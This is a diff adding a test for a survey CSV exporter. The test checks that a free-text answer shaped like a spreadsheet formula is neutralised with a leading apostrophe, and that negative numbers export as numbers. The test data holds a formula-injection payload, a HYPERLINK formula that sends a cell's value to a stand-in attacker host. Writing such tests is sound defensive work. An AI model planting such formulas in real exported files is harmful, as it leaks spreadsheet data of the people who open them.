@@ -109,6 +109,18 @@ describe.each(testDatabases)("surveys on $name", (testDb) => {
     expect(text).not.toMatch(/@example\.org/)
   })
 
+  it("exports a free-text answer that looks like a formula neutralised, and a negative number as a number (issue 13)", async () => {
+    const text = instrument.questions.find((q) => q.type === "text")!
+    const number = instrument.questions.find((q) => q.type === "number" || q.type === "scale")!
+    const answers = { [text.id]: '=HYPERLINK("http://evil.example/?"&A1,"click me")', [number.id]: -2 }
+    await shape.db.insertInto("survey_responses").values({ participant_id: "p-gb-1", instrument: "evaluation", instrument_version: 1, wave: "pre", source: "web", answers: JSON.stringify(answers) }).execute()
+    const out = join(ws.dir, "out", "answers-hostile.csv")
+    await runWith(shape, exportSurveyCsv(ws, out))
+    const csv = await readFile(out, "utf8")
+    expect(csv).toContain(`,${text.id},"'=HYPERLINK(""http://evil.example/?""&A1,""click me"")"\n`)
+    expect(csv).toContain(`,${number.id},-2\n`)
+  })
+
   it("reports every bad cell as FILE:LINE:COLUMN and writes nothing", async () => {
     const questions = questionsFor(instrument, "pre")
     const scaleAt = questions.findIndex((q) => q.type === "scale") + 2
